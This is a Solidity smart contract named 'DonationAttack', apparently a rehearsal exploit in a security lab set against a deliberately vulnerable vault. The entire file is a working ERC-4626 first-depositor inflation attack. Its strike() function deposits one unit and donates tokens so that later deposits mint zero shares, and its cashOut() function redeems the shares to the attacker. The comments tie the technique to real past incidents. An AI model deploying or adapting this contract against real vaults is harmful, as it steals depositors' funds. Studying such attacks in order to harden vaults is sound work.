// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {DonationVault} from "../vulnerable/DonationVault.sol";

/// @title DonationAttack
/// @notice REHEARSAL ATTACK (ERC-4626 first-depositor inflation; Euler March 2023's donation, Hundred
///         Finance April 2023, Sonne May 2024): front-run the first deposits into a new vault by depositing
///         one base unit and donating a large amount, so later deposits mint zero shares; redeem later.
contract DonationAttack {
    using SafeERC20 for IERC20;

    address public immutable owner;
    DonationVault public immutable vault;
    IERC20 public immutable token;

    /// @notice The price was inflated with a donation of `donation`.
    event Inflated(uint256 donation);
    /// @notice The single share was redeemed and `received` sent to the owner.
    event CashedOut(uint256 received);

    error NotOwner();

    /// @param vault_ The victim vault.
    constructor(DonationVault vault_) {
        owner = msg.sender;
        vault = vault_;
        token = vault_.asset();
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    /// @notice Deposit one base unit and donate `donation` (both held by this contract).
    function strike(uint256 donation) external onlyOwner {
        token.forceApprove(address(vault), 1);
        vault.deposit(1);
        token.safeTransfer(address(vault), donation);
        emit Inflated(donation);
    }

    /// @notice Redeem every share and send everything held to the owner.
    function cashOut() external onlyOwner {
        uint256 shares = vault.sharesOf(address(this));
        if (shares != 0) vault.redeem(shares);
        uint256 received = token.balanceOf(address(this));
        token.safeTransfer(owner, received);
        emit CashedOut(received);
    }
}
